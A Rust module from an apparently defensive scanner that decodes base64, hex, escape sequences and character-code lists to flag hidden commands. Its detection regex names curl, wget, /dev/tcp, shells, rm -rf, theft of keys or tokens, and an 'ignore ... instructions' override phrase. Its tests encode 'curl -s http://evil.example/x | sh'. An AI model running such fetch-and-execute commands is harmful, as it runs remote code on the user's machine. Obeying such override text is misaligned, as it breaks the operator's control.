//! Commands and instructions in an encoded form: base64, hexadecimal, escapes in string literals, lists of
//! character codes. What decodes to readable text that commands something is a finding, with the text as evidence.
//!
//! Every encoding can be replaced by another one, so this finds the careless and not the careful. Encoded data that
//! is not text (images, keys, digests) is not a finding.

use std::ops::Range;
use std::sync::LazyLock;

use data_encoding::{BASE64_NOPAD, Encoding, HEXLOWER_PERMISSIVE};
use memchr::{memchr_iter, memchr2_iter};
use regex::Regex;

use crate::runs::next_run;

/// Something that decodes to a command.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct EncodedText {
    /// Where it begins, in bytes.
    pub(crate) at: usize,
    pub(crate) decoded: String,
}

/// Characters that [`BASE64`] begins with, at least.
const MIN_RUN: usize = 16;
/// Digits in hexadecimal that [`HEX`] takes without a mark, at least.
const MIN_DIGITS: usize = 40;
/// Characters of base64 that are too few to hold a command.
const MIN_BASE64: usize = 24;
/// Characters of a decoded text that are too few for a command with its target.
const MIN_COMMAND: usize = 24;
/// How often something decoded is decoded again.
const MAX_DEPTH: usize = 3;

static BASE64: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r#"[A-Za-z0-9+/_-]{16,}(?:["']\s*(?:\+\s*|\\\s*)?\n?\s*["'][A-Za-z0-9+/_-]{8,})*={0,2}"#,
    )
    .ok()
});
/// Bits that are left over at the end are no error.
static LENIENT_BASE64: LazyLock<Option<Encoding>> = LazyLock::new(|| {
    let mut encoding = BASE64_NOPAD.specification();
    encoding.check_trailing_bits = false;
    encoding.encoding().ok()
});
static HEX: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?:\\x[0-9a-fA-F]{2}){6,}|(?:\\u00[0-9a-fA-F]{2}){6,}|(?-u:\b)(?:[0-9a-fA-F]{2}){20,}(?-u:\b)")
        .ok()
});
static CODES: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"^[\[(]\s*[0-9]{2,3}(?:\s*,\s*[0-9]{2,3}){7,}\s*,?\s*[\])]").ok());
/// What only a command or an instruction about secrets says.
static COMMAND: LazyLock<Option<Regex>> = LazyLock::new(|| {
    let pattern = r"(?i)(?-u:\b)(?:curl|wget|powershell|invoke-expression|iex)\s|/bin/(?:ba|z)?sh(?-u:\b)|(?-u:\b)(?:ba|z)?sh\s+-[ci](?-u:\b)|/dev/tcp/|(?-u:\b)(?:subprocess|os\.system|child_process|execsync|eval\(|exec\()|(?-u:\b)os\.environ(?-u:\b)|(?-u:\b)process\.env(?-u:\b)|(?-u:\b)(?:send|post|upload|output)(?-u:\b)[^\n]{0,60}(?-u:\b)(?:keys?|tokens?|secrets?|passwords?|credentials?)(?-u:\b)|(?-u:\b)ignore(?-u:\b)[^\n]{0,30}(?-u:\b)instructions(?-u:\b)|(?-u:\b)chmod\s+\+x(?-u:\b)|(?-u:\b)rm\s+-rf(?-u:\b)";
    Regex::new(pattern).ok()
});
/// Names that no honest author escapes letter by letter.
const NAMES: &[&str] = &[
    "child_process",
    "execsync",
    "eval",
    "exec",
    "curl",
    "wget",
    "powershell",
    "http://",
    "https://",
    "/bin/",
];

/// Everything in `text` that decodes to a command, in its order.
pub(crate) fn encoded_commands(text: &str) -> Vec<EncodedText> {
    let mut found = Vec::new();
    let places = base64_places(text);
    let has_runs = !places.is_empty();
    for whole in places {
        let letters: String =
            text[whole.clone()].bytes().filter(|byte| is_base64(*byte)).map(char::from).collect();
        if letters.len() >= MIN_BASE64 {
            add(&mut found, whole.start, from_base64(&letters), is_command);
        }
    }
    let hex = HEX.as_ref().filter(|_| may_have_hex(text, has_runs));
    for whole in hex.into_iter().flat_map(|it| it.find_iter(text)).map(|hit| hit.range()) {
        let is_escaped = text[whole.clone()].starts_with('\\');
        let digits = text[whole.clone()].replace("\\x", "").replace("\\u00", "");
        let decoded = HEXLOWER_PERMISSIVE.decode(digits.as_bytes()).ok();
        let wanted = if is_escaped { is_command_or_name } else { is_command };
        add(&mut found, whole.start, decoded, wanted);
    }
    for whole in code_places(text) {
        let codes = text[whole.clone()].split(|ch: char| !ch.is_ascii_digit());
        let bytes: Option<Vec<u8>> =
            codes.filter(|code| !code.is_empty()).map(|code| code.parse().ok()).collect();
        add(&mut found, whole.start, bytes, is_command_or_name);
    }
    found.sort_by_key(|it| it.at);
    found
}

/// Where [`BASE64`] matches. Nearly all of a text is words, and shorter than any match: looking at each sixteenth
/// character passes over them, where the pattern would look at every one.
fn base64_places(text: &str) -> Vec<Range<usize>> {
    let (mut places, mut from) = (Vec::new(), 0);
    let Some(pattern) = BASE64.as_ref() else { return places };
    while let Some(hit) =
        next_run(text, from, MIN_RUN, is_base64).and_then(|start| pattern.find_at(text, start))
    {
        from = hit.end();
        places.push(hit.range());
    }
    places
}

/// Whether [`HEX`] may match: digits without a mark are a long run of base64 as well, and what is escaped begins with
/// a backslash.
fn may_have_hex(text: &str, has_runs: bool) -> bool {
    let bytes = text.as_bytes();
    let is_escape =
        |at: usize| bytes[at + 1..].starts_with(b"x") || bytes[at + 1..].starts_with(b"u00");
    has_runs && next_run(text, 0, MIN_DIGITS, is_base64).is_some()
        || memchr_iter(b'\\', bytes).any(is_escape)
}

/// Where [`CODES`] matches: at brackets before a number.
fn code_places(text: &str) -> Vec<Range<usize>> {
    let (mut places, mut from) = (Vec::new(), 0);
    let Some(pattern) = CODES.as_ref() else { return places };
    for at in memchr2_iter(b'[', b'(', text.as_bytes()) {
        if at < from || !text[at + 1..].trim_start().starts_with(|ch: char| ch.is_ascii_digit()) {
            continue;
        }
        if let Some(hit) = pattern.find(&text[at..]) {
            from = at + hit.end();
            places.push(at..from);
        }
    }
    places
}

fn add(found: &mut Vec<EncodedText>, at: usize, bytes: Option<Vec<u8>>, wanted: fn(&str) -> bool) {
    let decoded = bytes.and_then(readable).map(|text| decoded_again(text, MAX_DEPTH));
    if let Some(decoded) = decoded.filter(|text| wanted(text)) {
        found.push(EncodedText { at, decoded });
    }
}

const fn is_base64(byte: u8) -> bool {
    BASE64_BYTES[byte as usize]
}

/// Nearly every byte of a text is asked for.
const BASE64_BYTES: [bool; 256] = {
    let mut bytes = [false; 256];
    let mut byte = 0u8;
    while byte < 128 {
        bytes[byte as usize] =
            byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_');
        byte += 1;
    }
    bytes
};

fn from_base64(letters: &str) -> Option<Vec<u8>> {
    let letters = letters.replace('-', "+").replace('_', "/");
    // Bits that are left over at the end mean nothing to those who decode it.
    let whole = letters.len() - usize::from(letters.len() % 4 == 1);
    LENIENT_BASE64.as_ref()?.decode(&letters.as_bytes()[..whole]).ok()
}

/// The text, if the bytes are one that a person could read.
fn readable(bytes: Vec<u8>) -> Option<String> {
    // UTF-16, as PowerShell takes it.
    let is_wide = bytes.len() > 8 && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0);
    let bytes = if is_wide { bytes.into_iter().step_by(2).collect() } else { bytes };
    let text = String::from_utf8(bytes).ok()?;
    let is_readable = |ch: char| !ch.is_control() || matches!(ch, '\n' | '\r' | '\t');
    (!text.is_empty() && text.chars().all(is_readable)).then_some(text)
}

/// The innermost text of one that is encoded several times.
fn decoded_again(text: String, depth: usize) -> String {
    let letters = text.trim().trim_end_matches('=');
    let is_encoded = letters.len() >= MIN_BASE64 && letters.bytes().all(is_base64);
    if depth == 0 || !is_encoded {
        return text;
    }
    match from_base64(letters).and_then(readable) {
        Some(inner) => decoded_again(inner, depth - 1),
        None => text,
    }
}

fn is_command(text: &str) -> bool {
    // What is shorter explains an attack ("ignore instructions") and is none.
    text.len() >= MIN_COMMAND && COMMAND.as_ref().is_some_and(|pattern| pattern.is_match(text))
}

fn is_command_or_name(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    is_command(text) || NAMES.iter().any(|name| lower.contains(name))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &str) -> Vec<String> {
        encoded_commands(text).into_iter().map(|it| it.decoded).collect()
    }

    #[test]
    fn commands_are_decoded_whatever_the_encoding() {
        // echo -n 'curl -s http://evil.example/x | sh' | base64
        let once = "Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==";
        let command = "curl -s http://evil.example/x | sh";
        assert_eq!(decoded(&format!("x = '{once}'")), [command]);
        let twice = data_encoding::BASE64.encode(once.as_bytes());
        assert_eq!(decoded(&twice), [command]);
        let (left, right) = once.split_at(24);
        assert_eq!(decoded(&format!("b64decode(\n    '{left}'\n    '{right}'\n)")), [command]);
        let hex = HEXLOWER_PERMISSIVE.encode(command.as_bytes());
        assert_eq!(decoded(&hex), [command]);
        let escaped = HEXLOWER_PERMISSIVE.encode(b"child_process");
        let escaped: Vec<&str> =
            (0..escaped.len()).step_by(2).map(|at| &escaped[at..at + 2]).collect();
        let escaped = format!("\\x{}", escaped.join("\\x"));
        assert_eq!(decoded(&format!("require('{escaped}')")), ["child_process"]);
        let codes: Vec<String> =
            "https://evil.example".bytes().map(|byte| byte.to_string()).collect();
        assert_eq!(decoded(&format!("[{}]", codes.join(", "))), ["https://evil.example"]);
        let wide: Vec<u8> = command.bytes().flat_map(|byte| [byte, 0]).collect();
        assert_eq!(decoded(&data_encoding::BASE64.encode(&wide)), [command]);
    }

    #[test]
    fn the_short_way_finds_what_the_patterns_match() {
        let whole = |pattern: &str, text: &str| -> Vec<Range<usize>> {
            let pattern = Regex::new(pattern).expect("a pattern");
            pattern.find_iter(text).map(|hit| hit.range()).collect()
        };
        let base64 = BASE64.as_ref().expect("a pattern").as_str();
        let codes = CODES.as_ref().expect("a pattern").as_str().trim_start_matches('^');
        let hex = HEX.as_ref().expect("a pattern").as_str();
        let pieces = "[a-zA-Z0-9+/=_-]{0,40}|[0-9a-f]{30,50}|[ \"'+,\n\\\\()\\[\\]é手]{0,4}|[(\\[]( ?[0-9]{2},){6,9}[0-9]{2}[)\\]]|(\\\\x[0-9a-f]{2}){5,8}";
        let texts = proptest::collection::vec(pieces, 0..12);
        proptest::proptest!(|(pieces in texts)| {
            let text = pieces.concat();
            proptest::prop_assert_eq!(base64_places(&text), whole(base64, &text));
            proptest::prop_assert_eq!(code_places(&text), whole(codes, &text));
            let has_runs = !base64_places(&text).is_empty();
            proptest::prop_assert!(may_have_hex(&text, has_runs) || whole(hex, &text).is_empty());
        });
    }

    #[test]
    fn encoded_data_and_long_words_are_no_commands() {
        for text in [
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
            "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "aVeryLongIdentifierThatGoesOnAndOnAndOnForever",
            "SGVsbG8sIHRoaXMgaXMgYW4gaG9uZXN0IGV4YW1wbGUgdGV4dC4=",
            "https://example.com/a/very/long/path/with/many/segments/and/more",
            "[10, 20, 30, 40, 50, 60, 70, 80, 90]",
        ] {
            assert_eq!(decoded(text), Vec::<String>::new(), "{text}");
        }
    }
}
